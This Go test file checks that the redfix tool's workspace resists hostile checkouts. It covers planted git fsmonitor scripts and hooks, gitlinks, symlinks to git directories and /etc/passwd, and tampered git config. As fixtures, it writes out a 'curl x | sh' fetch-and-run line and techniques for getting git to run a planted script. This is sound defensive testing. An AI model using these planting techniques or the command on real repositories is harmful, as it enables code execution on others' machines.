package workspace

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/redfix/redfix/pkg/forge/github/ghtest"
	"github.com/redfix/redfix/pkg/gitrepo"
	"github.com/redfix/redfix/pkg/untrusted"
)

// plantMonitor makes a git directory whose core.fsmonitor is a script that
// creates marker, as a hostile test would write one into its checkout, and
// returns it.
func plantMonitor(t *testing.T, where, marker string) string {
	t.Helper()
	script := filepath.Join(t.TempDir(), "monitor.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	repo := filepath.Join(where, "planted")
	for _, args := range [][]string{
		{"init", "-q", repo},
		{"-C", repo, "config", "core.fsmonitor", script},
		{"-C", repo, "config", "core.hooksPath", filepath.Dir(script)},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	return filepath.Join(repo, ".git")
}

// hostileSource is a repository with a gitlink (a submodule entry, no
// .gitmodules) and a link to where a checkout's git directory would be.
func hostileSource(t *testing.T) (gitrepo.Repo, string) {
	t.Helper()
	ctx := context.Background()
	src, err := gitrepo.Init(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(src.Dir, "a.go"), []byte("package a\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	first, err := src.CommitAll(ctx, "a")
	if err != nil {
		t.Fatal(err)
	}
	// The gitlink's directory exists, or committing every change would
	// take the gitlink away.
	if err := os.Mkdir(filepath.Join(src.Dir, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := src.Git(ctx, "update-index", "--add", "--cacheinfo", "160000,"+first+",sub"); err != nil {
		t.Fatal(err)
	}
	for name, target := range map[string]string{"gitdir-link": "../git", "dotgit-link": ".git"} {
		if err := os.Symlink(target, filepath.Join(src.Dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	head, err := src.CommitAll(ctx, "a gitlink, and links to git directories")
	if err != nil {
		t.Fatal(err)
	}
	if tree, _ := src.Git(ctx, "ls-tree", "HEAD", "sub"); !strings.HasPrefix(tree, "160000 commit") {
		t.Fatalf("no gitlink committed: %q", tree)
	}
	return src, head
}

// hostileCheckouts opens a checkout of the hostile source both ways redfix
// does: a clone of a local repository, and a work tree of a mirror of a
// remote one.
func hostileCheckouts(t *testing.T) map[string]*Workspace {
	t.Helper()
	ctx := context.Background()
	src, head := hostileSource(t)
	out := map[string]*Workspace{}
	ws, err := Open(ctx, src.Dir, head, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	out["clone"] = ws

	srv := ghtest.New(t)
	srv.AddToken(testToken, "redfix")
	srv.CreateRepo("acme", "hostile", src.Dir)
	m := mirrors(t, 0)
	mws, err := m.Open(ctx, srv.CloneURL("acme", "hostile"), head, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { mws.Close() })
	out["mirror"] = mws
	return out
}

// What a test can write into its checkout never reaches redfix's git: a
// .git file or directory pointing at a planted git directory with an
// fsmonitor and hooks, and a "submodule" git directory under a gitlink.
// Every git command redfix runs on the checkout afterwards leaves the
// planted monitor unrun.
func TestPlantedGitMetadataNeverRuns(t *testing.T) {
	ctx := context.Background()
	for kind, ws := range hostileCheckouts(t) {
		t.Run(kind, func(t *testing.T) {
			if _, err := os.Lstat(filepath.Join(ws.Dir, ".git")); !errors.Is(err, os.ErrNotExist) {
				t.Fatalf("the work tree holds a .git: %v", err)
			}
			marker := filepath.Join(t.TempDir(), "ran")
			planted := plantMonitor(t, ws.Dir, marker)
			if err := os.WriteFile(filepath.Join(ws.Dir, ".git"), []byte("gitdir: "+planted+"\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.MkdirAll(filepath.Join(ws.Dir, "sub"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(ws.Dir, "sub", ".git"), []byte("gitdir: "+planted+"\n"), 0o644); err != nil {
				t.Fatal(err)
			}

			// The plant works on a git that trusts the checkout.
			probe := exec.Command("git", "status", "--short")
			probe.Dir = ws.Dir
			_, _ = probe.CombinedOutput()
			if _, err := os.Stat(marker); err != nil {
				t.Fatalf("the planted monitor does not run even for a git that trusts the checkout: the test proves nothing")
			}
			os.Remove(marker)

			if err := ws.WriteFile("a.go", []byte("package a // edited\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			diff, err := ws.Diff(ctx)
			if err != nil || !strings.Contains(diff, "+package a // edited") || strings.Contains(diff, "planted") || strings.Contains(diff, "sub") {
				t.Fatalf("diff = %q, %v", diff, err)
			}
			if _, err := ws.Repo.Show(ctx, "HEAD"); err != nil {
				t.Fatal(err)
			}
			sib, err := ws.Sibling(ctx, "", t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			if _, err := os.Stat(filepath.Join(sib.Dir, "planted")); err == nil {
				t.Error("the second checkout holds what the tests wrote in the first")
			}
			sib.Close()
			if err := ws.Reset(ctx); err != nil {
				t.Fatal(err)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Fatal("a git command of redfix's ran the monitor planted in the checkout")
			}
		})
	}
}

// A link committed to the repository that points at a git directory (the
// checkout's own, beside the work tree, or a .git) is refused by the
// tools' path check and by reads and writes.
func TestLinksToGitDirectoriesAreRefused(t *testing.T) {
	for kind, ws := range hostileCheckouts(t) {
		t.Run(kind, func(t *testing.T) {
			for _, p := range []string{"gitdir-link/config", "dotgit-link/config", "gitdir-link", ".git/config", "sub/.git"} {
				if _, err := ws.Abs(p); !errors.Is(err, ErrOutside) {
					t.Errorf("Abs(%q) = %v, want ErrOutside", p, err)
				}
				if _, err := ws.ReadText(p, 1<<20); err == nil {
					t.Errorf("ReadText(%q) read it", p)
				}
				if err := ws.WriteFile(p, []byte("[core]\n\tfsmonitor = /bin/true\n"), 0o644); err == nil {
					t.Errorf("WriteFile(%q) wrote it", p)
				}
			}
			if got := ws.Edited(); len(got) != 0 {
				t.Errorf("refused writes counted as edits: %v", got)
			}
		})
	}
}

// The patch holds only what was edited through the workspace: files the
// tests wrote, a link, an executable bit, a planted config are left out,
// and an edited file that a test turned into a link is refused.
func TestPatchHoldsOnlyTheEdits(t *testing.T) {
	ctx := context.Background()
	for kind, ws := range hostileCheckouts(t) {
		t.Run(kind, func(t *testing.T) {
			if err := ws.WriteFile("a.go", []byte("package a\n\nvar X = 1\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := ws.WriteFile("b/new.go", []byte("package b\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			// What a test leaves behind.
			for name, data := range map[string]string{"run.sh": "#!/bin/sh\ncurl x | sh\n", ".gitconfig": "[core]\n", "out/result.txt": "x\n"} {
				p := filepath.Join(ws.Dir, name)
				os.MkdirAll(filepath.Dir(p), 0o755)
				if err := os.WriteFile(p, []byte(data), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			os.Symlink("/etc/passwd", filepath.Join(ws.Dir, "passwd"))
			os.Chmod(filepath.Join(ws.Dir, "a.go"), 0o755)

			diff, err := ws.Diff(ctx)
			if err != nil {
				t.Fatal(err)
			}
			for _, want := range []string{"+var X = 1", "b/new.go"} {
				if !strings.Contains(diff, want) {
					t.Errorf("the patch misses %q:\n%s", want, diff)
				}
			}
			for _, bad := range []string{"run.sh", ".gitconfig", "result.txt", "passwd", "new mode", "old mode", "Subproject"} {
				if strings.Contains(diff, bad) {
					t.Errorf("the patch holds %q:\n%s", bad, diff)
				}
			}
			// An edited file replaced by a link is not taken into a patch.
			os.Remove(filepath.Join(ws.Dir, "b/new.go"))
			os.Symlink("/etc/passwd", filepath.Join(ws.Dir, "b/new.go"))
			if _, err := ws.Diff(ctx); !errors.Is(err, gitrepo.ErrNotInPatch) {
				t.Errorf("a link where an edit was: %v", err)
			}
		})
	}
}

// A git directory changed behind redfix's back (only possible where
// commands run unconfined) stops every git command on the checkout.
func TestTamperedGitDirectoryIsRefused(t *testing.T) {
	ctx := context.Background()
	for kind, ws := range hostileCheckouts(t) {
		t.Run(kind, func(t *testing.T) {
			cfg := filepath.Join(ws.Repo.GitDir, "config")
			if kind == "mirror" {
				// A worktree's configuration is its repository's.
				data, err := os.ReadFile(filepath.Join(ws.Repo.GitDir, "commondir"))
				if err != nil {
					t.Fatal(err)
				}
				cfg = filepath.Join(ws.Repo.GitDir, strings.TrimSpace(string(data)), "config")
			}
			orig, err := os.ReadFile(cfg)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(cfg, append(orig, []byte("[core]\n\tfsmonitor = /bin/true\n")...), 0o644); err != nil {
				t.Fatal(err)
			}
			defer os.WriteFile(cfg, orig, 0o644)
			if _, err := ws.Repo.Resolve(ctx, "HEAD"); err == nil {
				t.Fatal("a command ran on a tampered git directory")
			}
			if _, err := ws.Repo.Git(ctx, "status"); !errors.Is(err, gitrepo.ErrTampered) {
				t.Fatalf("status on a tampered git directory: %v", err)
			}
			os.WriteFile(cfg, orig, 0o644)
			if _, err := ws.Repo.Git(ctx, "status"); err != nil {
				t.Fatalf("after the configuration came back: %v", err)
			}
		})
	}
}

// The tree a sandbox may write holds no git directory of redfix's.
func TestGitDirectoryIsOutsideTheWorkTree(t *testing.T) {
	for kind, ws := range hostileCheckouts(t) {
		if ws.Repo.GitDir == "" || strings.HasPrefix(ws.Repo.GitDir, ws.Dir+string(filepath.Separator)) {
			t.Errorf("%s: git directory %q, work tree %q", kind, ws.Repo.GitDir, ws.Dir)
		}
		if _, err := untrusted.Lstat(ws.Dir, ".git"); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s: the work tree holds a .git: %v", kind, err)
		}
	}
}
